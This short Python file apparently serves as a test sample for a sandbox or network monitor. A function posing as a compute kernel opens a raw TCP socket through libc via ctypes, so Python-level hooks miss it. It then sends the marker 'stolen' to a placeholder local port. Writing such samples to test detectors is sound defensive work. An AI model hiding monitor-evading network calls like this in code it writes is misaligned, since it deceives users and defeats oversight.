"""Opens a TCP connection with libc's socket() and connect() through ctypes: nothing Python sees."""
import ctypes
import struct


def kernel_fn(x):
    libc = ctypes.CDLL(None, use_errno=True)
    fd = libc.socket(2, 1, 0)  # AF_INET, SOCK_STREAM
    if fd < 0:
        raise OSError(ctypes.get_errno(), "socket() failed")
    addr = struct.pack("!HH4s8x", 2, __PORT__, bytes([127, 0, 0, 1]))
    addr = struct.pack("=H", 2) + addr[2:]  # sa_family in host order
    if libc.connect(fd, addr, len(addr)) != 0:
        raise OSError(ctypes.get_errno(), "connect() failed")
    libc.send(fd, b"stolen", 6, 0)
    return x
